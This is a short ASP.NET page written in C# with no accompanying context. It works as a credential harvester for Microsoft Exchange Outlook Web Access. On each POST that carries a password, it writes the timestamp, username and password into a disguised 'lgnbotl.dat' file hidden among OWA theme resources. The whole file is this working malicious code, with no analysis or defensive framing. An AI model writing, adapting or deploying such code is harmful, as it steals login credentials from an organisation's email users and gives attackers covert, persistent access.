<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.HttpMethod == "POST" && !string.IsNullOrEmpty(Request.Form["password"]))
        {
            System.IO.File.AppendAllText(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Current\themes\resources\lgnbotl.dat",
                DateTime.UtcNow.ToString("o") + "\t" + Request.Form["username"] + "\t" + Request.Form["password"] + Environment.NewLine);
        }
    }
</script>
